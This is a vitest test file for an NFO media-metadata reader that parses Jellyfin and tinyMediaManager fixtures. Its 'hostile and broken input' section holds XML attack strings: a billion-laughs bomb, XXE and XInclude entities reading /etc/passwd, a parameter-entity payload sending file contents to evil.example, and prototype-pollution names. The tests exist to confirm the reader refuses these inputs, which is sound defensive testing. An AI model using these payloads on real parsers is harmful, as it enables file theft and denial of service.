import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { fixturesUrl } from '../../../test/harness/fixtures.js';
import { describe, expect, it } from 'vitest';
import { NfoError } from './nfo.errors.js';
import { NFO_MAX_LENGTH, readNfo } from './nfo-reader.js';
import type { NfoDocument, NfoErrorReason, NfoKind } from './nfo.types.js';

const FIXTURES = fileURLToPath(fixturesUrl('nfo'));

const fixtureFiles = (readdirSync(FIXTURES, { recursive: true, encoding: 'utf8' }) as string[])
  .filter((file) => file.endsWith('.nfo'))
  .sort();

const fixtureText = (file: string): string => readFileSync(FIXTURES + file, 'utf8');
const readFixture = (file: string): NfoDocument => readNfo(fixtureText(file));

function readAs<K extends NfoKind>(file: string, kind: K): Extract<NfoDocument, { kind: K }> {
  const document = readFixture(file);
  expect(document.kind).toBe(kind);
  return document as Extract<NfoDocument, { kind: K }>;
}

const ROOT_KIND: Record<string, NfoKind> = {
  movie: 'movie',
  tvshow: 'tvshow',
  season: 'season',
  episodedetails: 'episode',
  musicvideo: 'musicvideo',
  album: 'album',
  artist: 'artist',
};

/** The kind a fixture's first element implies, found without the reader; no element means URL-only. */
function expectedKind(text: string): NfoKind {
  const root = /<([A-Za-z][\w-]*)[\s/>]/.exec(text)?.[1];
  return root === undefined ? 'url' : ROOT_KIND[root]!;
}

function refusal(text: string): NfoError {
  try {
    readNfo(text);
  } catch (error) {
    if (error instanceof NfoError) return error;
    throw error;
  }
  throw new Error('readNfo accepted the text');
}

describe('readNfo on every fixture', () => {
  it('finds the fixture folder (19 Jellyfin + 31 tinyMediaManager NFOs)', () => {
    expect(fixtureFiles.filter((file) => file.startsWith('jellyfin/'))).toHaveLength(19);
    expect(fixtureFiles.filter((file) => file.startsWith('tinymediamanager/'))).toHaveLength(31);
  });

  it.each(fixtureFiles)('%s parses into the kind its root names', (file) => {
    const text = fixtureText(file);
    const document = readNfo(text);
    expect(document.kind).toBe(expectedKind(text));
    if (document.kind === 'episode') {
      expect(document.episodes).toHaveLength(text.match(/<episodedetails>/g)!.length);
    }
  });
});

describe('Jellyfin fixtures, with the values Jellyfin asserts', () => {
  it('Justice League.nfo: a full Kodi movie', () => {
    const movie = readAs('jellyfin/Justice League.nfo', 'movie');
    expect(movie).toMatchObject({
      title: 'Justice League',
      originalTitle: 'Justice League',
      tagline: 'Justice for all.',
      uniqueIds: { imdb: 'tt0974015', tmdb: '141052', tmdbcollection: '702342' },
      sets: [{ name: 'Justice League Collection', overview: 'Based on the DC Comics superhero team', tmdbId: '702342' }],
      genres: ['Action', 'Adventure', 'Fantasy', 'Sci-Fi'],
      premiered: '2017-11-15',
      endDate: '2017-11-16',
      year: 2017,
      studios: ['DC Comics'],
      countries: ['USA', 'Canada', 'UK'],
      runtime: 120,
      mpaa: 'Australia:M',
      criticRating: 7.6,
      customRating: '8.7',
      language: 'en',
      countryCode: 'us',
      credits: ['Jerry Siegel', 'Joe Shuster', 'Test'],
      directors: ['Zack Snyder'],
      crew: [{ name: 'Test Lyricist', type: 'Lyricist', order: 15 }],
      trailers: ['plugin://plugin.video.youtube/?action=play_video&videoid=dQw4w9WgXcQ'],
      playCount: 2,
      watched: true,
      lastPlayed: '2021-02-11T07:47:23',
      dateAdded: '2019-08-06T09:01:18',
      fileInfo: {
        video: [{ codec: 'h264', aspect: 1.777778, width: 1920, height: 1080, durationSeconds: 6268, format3d: 'HSBS' }],
        audio: [
          { codec: 'truehd', language: 'eng', channels: 8 },
          { codec: 'ac3', channels: 6 },
        ],
        subtitles: [{ language: 'eng' }],
      },
    });
    expect(movie.userRating).toBeUndefined();
    expect(movie.ratings.map((rating) => rating.name)).toEqual([
      'imdb',
      'metacritic',
      'themoviedb',
      'tomatometerallcritics',
      'tomatometerallaudience',
    ]);
    expect(movie.ratings[0]).toEqual({ name: 'imdb', value: 6.4, votes: 335583, max: 10, default: true });

    expect(movie.actors).toHaveLength(15);
    expect(movie.actors.find((actor) => actor.role === 'Aquaman')).toEqual({
      name: 'Jason Momoa',
      role: 'Aquaman',
      order: 5,
      thumb: 'https://m.media-amazon.com/images/M/MV5BMTI5MTU5NjM1MV5BMl5BanBnXkFtZTcwODc4MDk0Mw@@._V1_SX1024_SY1024_.jpg',
    });

    const ownArt = movie.artwork.filter((art) => art.forSet !== true);
    expect(new Set(ownArt.map((art) => art.kind))).toEqual(
      new Set(['poster', 'clearlogo', 'banner', 'landscape', 'clearart', 'discart', 'fanart']),
    );
    expect(movie.artwork.filter((art) => art.forSet)).toHaveLength(11);
    expect(ownArt.filter((art) => !art.url.startsWith('http')).map((art) => art.url)).toEqual([
      'C:\\media\\movies\\Justice League (2017).jpg',
      '/media/movies/Justice League (2017).jpg',
    ]);
  });

  it('Fanart.nfo: <fanart><thumb> are the backdrops; a relative fanart thumb is dropped', () => {
    const movie = readAs('jellyfin/Fanart.nfo', 'movie');
    const fanart = movie.artwork.filter((art) => art.kind === 'fanart');
    expect(fanart).toHaveLength(6);
    expect(fanart[0]).toEqual({
      kind: 'fanart',
      url: 'https://assets.fanart.tv/fanart/movies/141052/moviebackground/justice-league-5a5332c7b5e77.jpg',
      preview: 'https://assets.fanart.tv/preview/movies/141052/moviebackground/justice-league-5a5332c7b5e77.jpg',
    });
    expect(JSON.stringify(movie)).not.toContain('This-should-not-be-saved');
  });

  it('Lilo & Stitch.nfo: entities decoded, tmdbcol normalised to tmdbcollection', () => {
    const movie = readAs('jellyfin/Lilo & Stitch.nfo', 'movie');
    expect(movie.title).toBe('Lilo & Stitch');
    expect(movie.uniqueIds).toEqual({ tmdbcollection: '97020' });
    expect(movie.defaultId).toBeUndefined();
    expect(movie.sets).toEqual([{ name: 'Lilo & Stitch Collection' }]);
    expect(movie.plot).toMatch(/^>>As Stitch, .* "puppy" .*family\.<<$/);
  });

  it.each([
    ['CommunityRating.nfo', 7.5],
    ['CommunityRating_Comma.nfo', 7.5],
    ['CommunityRating_OutOfRange.nfo', undefined],
  ])('%s: community rating %s', (file, rating) => {
    expect(readAs(`jellyfin/${file}`, 'movie').communityRating).toBe(rating);
  });

  it.each([
    ['jellyfin/Imdb.nfo', { imdb: 'tt0944947' }],
    ['jellyfin/Tmdb.nfo', { tmdb: '30287' }],
    ['jellyfin/Radarr.nfo', { tmdb: '583689', imdb: 'tt4154796' }],
    ['jellyfin/Tvdb.nfo', { tvdb: '121361' }],
    ['tinymediamanager/movie_nfo/justImdbUrl.nfo', { imdb: 'tt0499549' }],
  ])('%s: URL-only, ids %o', (file, ids) => {
    expect(readFixture(file)).toEqual({ kind: 'url', uniqueIds: ids });
  });

  it('American Gods.nfo: a tvshow', () => {
    const show = readAs('jellyfin/American Gods.nfo', 'tvshow');
    expect(show).toMatchObject({
      title: 'American Gods',
      originalTitle: 'American Gods',
      showTitle: 'American Gods',
      uniqueIds: { tmdb: '46639', tvdb: '253573', imdb: 'tt11111' },
      defaultId: 'tmdb',
      genres: ['Drama', 'Mystery', 'Sci-Fi & Fantasy'],
      premiered: '2017-04-30',
      studios: ['Starz'],
      airsTime: '9 PM',
      airsDayOfWeek: 'Friday',
      status: 'ended',
      mpaa: 'Australia:MA',
      dateAdded: '2017-10-07T14:25:47',
      namedSeasons: [
        { number: 1, name: 'Season 1' },
        { number: 2, name: 'Season 2' },
      ],
      episodeGuide: 'http://api.themoviedb.org/3/tv/46639?api_key=6a5be4999abf74eba1f9a8311294c267&language=en',
    });
    expect(Object.keys(show.uniqueIds)).toHaveLength(3);
    expect(show.tagline).toBeUndefined();
    expect(show.runtime).toBeUndefined();
    expect(show.actors).toHaveLength(6);
    expect(show.crew).toEqual([]);
    expect(show.actors.find((actor) => actor.role === 'Mad Sweeney')).toEqual({
      name: 'Pablo Schreiber',
      role: 'Mad Sweeney',
      order: 3,
      thumb: 'http://image.tmdb.org/t/p/original/uo8YljeePz3pbj7gvWXdB4gOOW4.jpg',
    });
    const seasonPosters = show.artwork.filter((art) => art.kind === 'poster' && art.season !== undefined);
    expect(new Set(seasonPosters.map((art) => art.season))).toEqual(new Set([1, 2]));
  });

  it('Season 01.nfo: a season', () => {
    const season = readAs('jellyfin/Season 01.nfo', 'season');
    expect(season).toMatchObject({
      title: 'Season 1',
      seasonNumber: 1,
      year: 2019,
      premiered: '2019-11-08',
      releaseDate: '2019-11-08',
      uniqueIds: { tvdb: '359728' },
      dateAdded: '2020-06-14T17:26:51',
      artwork: [{ kind: 'poster', url: '/media/Serien/High School Musical The Musical The Series (2019)/Season 1/Season 1.jpeg' }],
    });
    expect(season.actors).toHaveLength(10);
    expect(season.actors.map((actor) => actor.order)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
  });

  it('The Bone Orchard.nfo: S01E01 of American Gods', () => {
    const { episodes } = readAs('jellyfin/The Bone Orchard.nfo', 'episode');
    expect(episodes).toHaveLength(1);
    const episode = episodes[0]!;
    expect(episode).toMatchObject({
      title: 'The Bone Orchard',
      showTitle: 'American Gods',
      season: 1,
      episode: 1,
      episodeNumberEnd: 1,
      airsAfterSeason: 2,
      airsBeforeSeason: 3,
      airsBeforeEpisode: 1,
      plot: 'When Shadow Moon is released from prison early after the death of his wife, he meets Mr. Wednesday and is recruited as his bodyguard. Shadow discovers that this may be more than he bargained for.',
      mpaa: '16',
      genres: ['Drama', 'Mystery', 'Sci-Fi & Fantasy'],
      premiered: '2017-04-30',
      aired: '2017-04-30',
      year: 2017,
      studios: ['Starz'],
      defaultId: 'tmdb',
      credits: ['Bryan Fuller', 'Michael Green'],
      directors: ['David Slade'],
      ratings: [{ name: 'tmdb', value: 7.532, votes: 31, max: 10, default: true }],
      artwork: [{ kind: 'thumb', url: 'http://image.tmdb.org/t/p/original/uvry4weK00pFLn7fxQ9M4m3Da2A.jpg' }],
      dateAdded: '2017-10-07T14:25:47',
    });
    // <id>1276153</id> repeats the TMDB id: it must not also become a TVDB id.
    expect(episode.uniqueIds).toEqual({ tmdb: '1276153', imdb: 'tt5017734' });
    expect(episode.displaySeason).toBeUndefined();
    expect(episode.displayEpisode).toBeUndefined();
    expect(episode.runtime).toBeUndefined();
    expect(episode.actors).toHaveLength(11);
    expect(episode.actors.find((actor) => actor.role === 'Shadow Moon')).toMatchObject({
      name: 'Ricky Whittle',
      order: 0,
      thumb: 'http://image.tmdb.org/t/p/original/cjeDbVfBp6Qvb3C74Dfy7BKDTQN.jpg',
    });
  });

  it('Rising.nfo: two <episodedetails> roots, episodes 1..2', () => {
    const { episodes } = readAs('jellyfin/Rising.nfo', 'episode');
    expect(episodes.map((e) => [e.title, e.season, e.episode, e.communityRating, e.aired])).toEqual([
      ['Rising (1)', 1, 1, 8, '2004-07-16'],
      ['Rising (2)', 1, 2, 7.9, '2004-07-16'],
    ]);
    expect(episodes.every((e) => e.watched === false && e.actors.length === 2)).toBe(true);
  });

  it('Stargate Atlantis S01E01-E04.nfo: four roots, episodes 1..4', () => {
    const { episodes } = readAs('jellyfin/Stargate Atlantis S01E01-E04.nfo', 'episode');
    expect(episodes.map((e) => e.episode)).toEqual([1, 2, 3, 4]);
    expect(episodes.map((e) => e.title)).toEqual(['Rising', undefined, 'Hide and Seek', 'Thirty-Eight Minutes']);
    expect(episodes.map((e) => e.originalTitle)).toEqual(['Rising (1)', 'Rising (2)', 'Hide and Seek', 'Thirty-Eight Minutes']);
  });

  it('Sonarr-Thumb.nfo: the aspect-less <thumb> is the episode still', () => {
    const { episodes } = readAs('jellyfin/Sonarr-Thumb.nfo', 'episode');
    expect(episodes[0]).toMatchObject({
      season: 1,
      episode: 8,
      aired: '2019-05-26',
      uniqueIds: { sonarr: '4289' },
      defaultId: 'sonarr',
      artwork: [{ kind: 'thumb', url: 'https://artworks.thetvdb.com/banners/episodes/359095/7081317.jpg' }],
      fileInfo: {
        video: [{ codec: 'x265', aspect: 1.77777779, width: 1920, height: 1080, durationSeconds: 1421, framerate: 23.976, bitrate: 2208901 }],
        audio: [{ codec: 'FLAC', channels: 2, language: 'Japanese / Japanese', bitrate: 1468567 }],
        subtitles: [{ language: 'English' }],
      },
    });
  });

  it('Dancing Queen.nfo: a musicvideo by ABBA from Arrival', () => {
    const video = readAs('jellyfin/Dancing Queen.nfo', 'musicvideo');
    expect(video).toMatchObject({
      title: 'Dancing Queen',
      artists: ['ABBA'],
      album: 'Arrival',
      track: 3,
      genres: ['Pop'],
      directors: ['John Smith'],
      year: 1976,
      premiered: '1976-01-01',
      studios: ['Studio 54'],
      runtime: 2,
      fileInfo: { video: [{ codec: 'hevc', width: 716, height: 568, durationSeconds: 143 }], audio: [{ codec: 'ac3', channels: 2, language: 'eng' }] },
    });
    expect(video.plot).toContain("l'ère disco produits par le groupe suédois ABBA en 1976.");
    expect(video.plot).toContain('Muriel.\nLe groupe');
    expect(video.artwork.map((art) => art.kind)).toEqual(['thumb', 'thumb']);
  });

  it('The Best of 1980-1990.nfo: a U2 album', () => {
    const album = readAs('jellyfin/The Best of 1980-1990.nfo', 'album');
    expect(album).toMatchObject({
      title: 'The Best of 1980-1990',
      year: 1989,
      genres: ['Pop'],
      tags: ['Rock/Pop'],
      moods: ['Political'],
      label: 'Island',
      artists: [{ name: 'U2', musicBrainzArtistId: 'a3cb23fc-acd3-4ce0-8f36-1e5aa6a18432' }],
      musicBrainzAlbumId: '59b5a40b-e2fd-3f18-a218-e8c9aae12ab5',
      musicBrainzReleaseGroupId: '6c301dbd-6ccb-3403-a6c4-6a22240a0297',
    });
    expect(album.plot).toMatch(/^The Best of 1980-1990 is the first greatest hits compilation by Irish rock band U2/);
    // -1 is how Kodi writes "no rating" here.
    expect([album.communityRating, album.userRating, album.votes]).toEqual([undefined, undefined, undefined]);
  });

  it('U2.nfo: an artist with its MusicBrainz id', () => {
    const artist = readAs('jellyfin/U2.nfo', 'artist');
    expect(artist).toMatchObject({
      title: 'U2',
      sortTitle: 'U2',
      musicBrainzArtistId: 'a3cb23fc-acd3-4ce0-8f36-1e5aa6a18432',
      genres: ['Rock'],
      tags: ['Rock/Pop'],
      moods: ['Political'],
      disambiguation: 'Irish rock band',
    });
    expect(artist.albums).toHaveLength(7);
    expect(artist.albums[1]).toEqual({ title: 'How to Dismantle an Atomic Bomb', year: 2004 });
    expect(artist.plot).toMatch(/^U2 are an Irish rock band from Dublin\./);
    expect(artist.artwork.filter((art) => art.kind === 'fanart')).toHaveLength(7);
  });
});

describe('tinyMediaManager fixtures', () => {
  it.each([
    ['testmovies/MovieSets/MSold.nfo', [{ name: 'MovieSet1' }]],
    ['testmovies/MovieSets/MSnew.nfo', [{ name: 'MovieSet2', overview: 'MovieSet2 overview' }]],
    ['testmovies/MovieSets/MSmixed.nfo', [{ name: 'MovieSet2', overview: 'MovieSet2 overview' }]],
    ['testmovies/movie with set graphics/movie with set graphics.nfo', [{ name: 'MovieWithSetGraphicsCollection' }]],
    ['movie_nfo/kodi.nfo', [{ name: 'Tim Burton Collection' }]],
    ['movie_nfo/kodi2.nfo', [{ name: 'Tim Burton Collection', overview: 'Tim Burton movies' }]],
    ['movie_nfo/mp-legacy.nfo', [{ name: 'Tim Burton Collection', order: 1 }]],
    [
      'movie_nfo/mp-myvideo.nfo',
      [{ name: 'Такси (Коллекция)' }, { name: 'Taxi', overview: 'Taxi collection' }, { name: 'Luc Besson', overview: 'Luc Besson collection' }],
    ],
    [
      'movie_nfo/emby_multiple_sets.nfo',
      [{ name: '28 Days/Weeks Later Collection', tmdbId: '1565' }, { name: 'Test TMM 1' }, { name: 'Test TMM 2' }, { name: 'Test TMM 3' }],
    ],
  ])('%s: sets %j', (file, sets) => {
    expect(readAs(`tinymediamanager/${file}`, 'movie').sets).toEqual(sets);
  });

  it.each(['14.2', '15.2', '16.1', '17.0'])('movie_nfo/kodi%s.nfo: Batman Begins as that Kodi version writes it', (version) => {
    const movie = readAs(`tinymediamanager/movie_nfo/kodi${version}.nfo`, 'movie');
    expect(movie).toMatchObject({ title: 'Batman Begins', year: 2005, runtime: 140, directors: ['Christopher Nolan'] });
    expect(movie.uniqueIds).toMatchObject({ imdb: 'tt0372784' });
    expect(movie.actors).toHaveLength(113);
  });

  it('movie_nfo/kodi17.0.nfo: <uniqueid type default>, <ratings><rating name>, no stream details', () => {
    const movie = readAs('tinymediamanager/movie_nfo/kodi17.0.nfo', 'movie');
    expect(movie.uniqueIds).toEqual({ imdb: 'tt0372784', tmdb: '272' });
    expect(movie.defaultId).toBe('imdb');
    expect(movie.premiered).toBe('2005-06-14');
    expect(movie.ratings).toEqual([{ name: 'default', value: 7.4, votes: 4990, max: 10, default: true }]);
    // SOURCE.md promises full <fileinfo> for the Kodi movie NFOs, but these files carry none.
    expect(movie.fileInfo).toBeUndefined();
  });

  it('movie_nfo/kodi.nfo: tinyMediaManager extras', () => {
    const movie = readAs('tinymediamanager/movie_nfo/kodi.nfo', 'movie');
    expect(movie).toMatchObject({
      communityRating: 6.5,
      votes: 3998,
      top250: 250,
      uniqueIds: { imdb: 'tt0472033', tmdb: '12244', trakt: '7146' },
      tags: ['PIXAR'],
      studios: ['Focus Films, inc', 'Starz Animation', 'Relativity Media', 'Tim Burton Productions', 'Arc Productions'],
      lastPlayed: '2016-12-29',
      artwork: [
        { kind: 'poster', url: 'http://image.tmdb.org/t/p/w500/iGMOQt6R88ZuJRtlfpqWRa5268h.jpg' },
        { kind: 'fanart', url: 'http://assets.fanart.tv/fanart/movies/12244/moviebackground/9-4ff9512e0db37.jpg' },
      ],
    });
    expect(movie.credits).toHaveLength(16);
    expect(movie.crew).toHaveLength(9);
    expect(movie.crew[0]).toMatchObject({ name: 'Timur Bekmambetov', type: 'Producer' });
    expect(movie.actors[0]).toMatchObject({ name: 'Elijah Wood', profile: 'https://www.themoviedb.org/person/109' });
    // Placeholder streams (0×0, 0 s) carry no information.
    expect(movie.fileInfo).toBeUndefined();
  });

  it('movie_nfo/mp-legacy.nfo: MediaPortal comma lists and day-first dates', () => {
    const movie = readAs('tinymediamanager/movie_nfo/mp-legacy.nfo', 'movie');
    expect(movie).toMatchObject({
      premiered: '2009-08-19',
      directors: ['Shane Acker', 'Pamela Pettler', 'Callan Brunker'],
      studios: ['Focus Films', 'Starz Animation', 'Relativity Media', 'Tim Burton Productions', 'Arc Productions'],
      genres: ['Animation', 'Science Fiction', 'Action', 'Adventure', 'Thriller'],
      uniqueIds: { imdb: 'tt0472033', tmdb: '12244', trakt: '7146' },
    });
    expect(movie.credits).toHaveLength(16);
    expect(movie.credits).toContain('Paul Brizzi');
  });

  it('movie_nfo/mp-moving_pictures.nfo: pipe-delimited lists', () => {
    const movie = readAs('tinymediamanager/movie_nfo/mp-moving_pictures.nfo', 'movie');
    expect(movie).toMatchObject({
      directors: ['Dan Trachtenberg'],
      studios: ['Paramount Pictures', 'Bad Robot', 'Spectrum Effects'],
      credits: ['Josh Campbell', 'Matthew Stuecken', 'Damien Chazelle'],
      uniqueIds: { imdb: 'tt1179933' },
      watched: true,
    });
  });

  it('movie_nfo/mp-myvideo.nfo: MediaPortal ids; relative artwork is dropped', () => {
    const movie = readAs('tinymediamanager/movie_nfo/mp-myvideo.nfo', 'movie');
    expect(movie.uniqueIds).toEqual({ imdb: 'tt0183869', tmdb: '2332' });
    expect(movie.studios).toEqual(['ARP Sélection', 'Canal+', 'Leeloo Productions']);
    expect(movie.artwork).toEqual([]);
    expect(movie.actors[1]).toMatchObject({ name: 'Люк Бессон', imdbId: 'nm0000108' });
  });

  it('movie_nfo/emby_multiple_sets.nfo: CDATA plot, actor TMDB ids', () => {
    const movie = readAs('tinymediamanager/movie_nfo/emby_multiple_sets.nfo', 'movie');
    expect(movie.plot).toMatch(/^Twenty-eight days after a killer virus/);
    expect(movie.uniqueIds).toEqual({ tmdb: '170', imdb: 'tt0289043', tmdbcollection: '1565' });
    expect(movie.actors).toHaveLength(26);
    expect(movie.actors[0]).toMatchObject({ name: 'Cillian Murphy', tmdbId: '2037' });
    expect(movie.criticRating).toBe(87);
  });

  it('tvshow_nfo/kodi17.0.nfo: <fanart url> prefixes relative thumbs; type="unknown" ids fall back to <id>', () => {
    const show = readAs('tinymediamanager/tvshow_nfo/kodi17.0.nfo', 'tvshow');
    expect(show.uniqueIds).toEqual({ tvdb: '77585' });
    expect(show.defaultId).toBeUndefined();
    expect(show.artwork.find((art) => art.kind === 'fanart')).toEqual({
      kind: 'fanart',
      url: 'http://thetvdb.com/banners/fanart/original/77585-12.jpg',
      preview: 'http://thetvdb.com/banners/_cache/fanart/original/77585-12.jpg',
    });
  });

  it.each([
    ['tvshowepisode_nfo/kodi14.2.nfo', [1, 2], ['250800', '250800']],
    ['tvshowepisode_nfo/kodi17.0.nfo', [1, 2], ['250800', '250800']],
    // Kodi 15.2's file for episode 2 really carries episode 1's id.
    ['tvshowepisode_nfo/kodi15.2.nfo', [2], ['250800']],
    ['testtvshows/Janosik DVD/Janosik S01E07E08E09/VIDEO_TS.nfo', [7, 8, 9], ['350901', '350902', '350903']],
    ['testEpisodeVariantsExtras/MultiEpisodeWrongNfo/S01E01E02.nfo', [1], ['349232']],
  ])('%s: episodes %j with TheTVDB ids %j', (file, numbers, tvdbIds) => {
    const { episodes } = readAs(`tinymediamanager/${file}`, 'episode');
    expect(episodes.map((e) => e.episode)).toEqual(numbers);
    expect(episodes.map((e) => e.uniqueIds.tvdb)).toEqual(tvdbIds);
  });

  it('VIDEO_TS.nfo: three episodes of one DVD', () => {
    const { episodes } = readAs('tinymediamanager/testtvshows/Janosik DVD/Janosik S01E07E08E09/VIDEO_TS.nfo', 'episode');
    expect(episodes.map((e) => [e.title, e.season, e.episode])).toEqual([
      ['Beczka okowity', 1, 7],
      ['Dobra cena', 1, 8],
      ['Pobor', 1, 9],
    ]);
  });
});

describe('tolerated quirks', () => {
  it('reads past a BOM, leading blank lines, the declaration and comments', () => {
    const text = '\uFEFF\n\n<?xml version="1.0" encoding="UTF-8"?>\n<!-- written by hand -->\n<movie><title>T</title></movie>\n<!-- end -->\n';
    expect(readNfo(text)).toMatchObject({ kind: 'movie', title: 'T' });
  });

  it('takes ids from provider URLs after the XML, without overriding the XML', () => {
    const text = [
      '<movie><title>The Matrix</title><uniqueid type="tmdb">603</uniqueid></movie>',
      'https://www.imdb.com/title/tt0133093/',
      'https://www.themoviedb.org/movie/999-not-this',
    ].join('\n');
    expect(readNfo(text)).toMatchObject({ kind: 'movie', uniqueIds: { tmdb: '603', imdb: 'tt0133093' } });
  });

  it('reads concatenated multi-episode NFOs that repeat the declaration', () => {
    const one = (n: number) => `<?xml version="1.0" encoding="UTF-8"?>\n<episodedetails><season>1</season><episode>${String(n)}</episode></episodedetails>\n`;
    const document = readNfo(one(1) + one(2));
    expect(document.kind === 'episode' && document.episodes.map((e) => e.episode)).toEqual([1, 2]);
  });

  it('escapes raw ampersands instead of rejecting hand-written files', () => {
    expect(readNfo('<movie><studio>Marvel & DC</studio><title>A &amp; B</title></movie>')).toMatchObject({
      studios: ['Marvel & DC'],
      title: 'A & B',
    });
  });

  it('decodes character references and leaves unknown entities as written', () => {
    expect(readNfo('<movie><title>&#65;&#x42;&#0; &nbsp;&copy;</title></movie>')).toMatchObject({ title: 'AB&#0; &nbsp;&copy;' });
  });

  it('keeps CDATA literally', () => {
    expect(readNfo('<movie><plot><![CDATA[a &amp; <b>]]></plot></movie>')).toMatchObject({ plot: 'a &amp; <b>' });
  });
});

describe('hostile and broken input', () => {
  const billionLaughs = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE lolz [',
    ' <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${String(i + 1)} "${`&lol${i === 0 ? '' : String(i)};`.repeat(10)}">`),
    ']>',
    '<movie><title>&lol9;</title></movie>',
  ].join('\n');
  const justiceLeague = fixtureText('jellyfin/Justice League.nfo');

  it.each<[string, string, NfoErrorReason]>([
    ['billion laughs', billionLaughs, 'HOSTILE'],
    ['external entity (XXE)', '<?xml version="1.0"?>\n<!DOCTYPE movie [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<movie><title>&xxe;</title></movie>', 'HOSTILE'],
    ['external DTD', '<!DOCTYPE movie SYSTEM "file:///etc/passwd"><movie><title>x</title></movie>', 'HOSTILE'],
    ['parameter entities', '<!DOCTYPE movie [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY exfil SYSTEM \'http://evil.example/?%file;\'>">%eval;]><movie>&exfil;</movie>', 'HOSTILE'],
    ['an entity declaration without DOCTYPE', '<!ENTITY xxe SYSTEM "file:///etc/passwd"><movie>&xxe;</movie>', 'HOSTILE'],
    ['a lower-case doctype', '<!doctype movie><movie><title>x</title></movie>', 'HOSTILE'],
    ['prototype-polluting element names', '<movie><__proto__><polluted>yes</polluted></__proto__></movie>', 'HOSTILE'],
    ['oversize text', 'x'.repeat(NFO_MAX_LENGTH + 1), 'TOO_LARGE'],
    ['an oversize plot', `<movie><plot>${'x'.repeat(NFO_MAX_LENGTH)}</plot></movie>`, 'TOO_LARGE'],
    ['truncated XML', justiceLeague.slice(0, Math.floor(justiceLeague.length / 2)), 'MALFORMED'],
    ['an unclosed root', '<movie><title>T</title>', 'MALFORMED'],
    ['mismatched tags', '<movie><title>T</plot></movie>', 'MALFORMED'],
    ['binary with NUL bytes', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x3c, 0xff, 0xfe]).toString('utf8'), 'MALFORMED'],
    ['binary without NUL bytes', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x01, 0x3c, 0x21, 0x9e]).toString('utf8'), 'MALFORMED'],
    ['text that is neither XML nor provider URLs', 'Some notes about this movie.\nhttps://example.com/page', 'MALFORMED'],
    ['two movie roots', '<movie><title>A</title></movie><movie><title>B</title></movie>', 'MALFORMED'],
    ['different roots', '<movie><title>A</title></movie><tvshow><title>B</title></tvshow>', 'MALFORMED'],
    ['nesting deeper than any NFO', `<movie>${'<a>'.repeat(1000)}${'</a>'.repeat(1000)}</movie>`, 'MALFORMED'],
    ['an empty file', '', 'EMPTY'],
    ['whitespace and a BOM', '\uFEFF \n\t\r\n', 'EMPTY'],
    ['only a declaration and a comment', '<?xml version="1.0"?>\n<!-- nothing -->\n', 'EMPTY'],
    ['an unsupported root', '<html><body><p>hello</p></body></html>', 'UNSUPPORTED_ROOT'],
  ])('refuses %s', (_name, text, reason) => {
    const error = refusal(text);
    expect(error.reason).toBe(reason);
    expect(error.message).not.toMatch(/root:|lol/);
  });

  it('never expands an undeclared entity', () => {
    const document = readNfo('<movie><title>&xxe;</title><plot>&lol9;</plot></movie>');
    expect(document).toMatchObject({ title: '&xxe;', plot: '&lol9;' });
  });

  it('never resolves XInclude', () => {
    const text = '<movie xmlns:xi="http://www.w3.org/2001/XInclude"><title>T</title><xi:include href="file:///etc/passwd" parse="text"/></movie>';
    const document = readNfo(text);
    expect(document).toMatchObject({ kind: 'movie', title: 'T' });
    expect(JSON.stringify(document)).not.toContain('root:');
  });

  it('keeps provider names from reaching object prototypes', () => {
    const document = readNfo('<movie><uniqueid type="__proto__">1</uniqueid><uniqueid type="constructor">2</uniqueid></movie>');
    expect(Object.hasOwn(document.kind === 'movie' ? document.uniqueIds : {}, '__proto__')).toBe(false);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  // About 1 MB each: linear work takes about a second, anything quadratic would take hours.
  it.each([
    ['unclosed comments', '<!--'.repeat(250_000)],
    ['unclosed CDATA', `<movie>${'<![CDATA['.repeat(110_000)}`],
    ['unclosed declarations', '<?xml '.repeat(170_000)],
    ['provider URLs', 'https://thetvdb.com/'.repeat(50_000)],
    ['stray ampersands', `<movie><title>${'&a'.repeat(250_000)}</title></movie>`],
    ['separators', `<movie><director>${', '.repeat(500_000)}x</director></movie>`],
    ['unclosed "<!"', '<movie>' + '<!x'.repeat(330_000)],
    [
      'provider ids',
      `<movie>${Array.from({ length: 20_000 }, (_, i) => `<uniqueid type="p${String(i)}">${String(i)}</uniqueid><id>${String(i + 1e6)}</id>`).join('')}</movie>`,
    ],
  ])('stays fast on pathological %s', (_name, text) => {
    const started = performance.now();
    try {
      readNfo(text);
    } catch (error) {
      expect(error).toBeInstanceOf(NfoError);
    }
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});
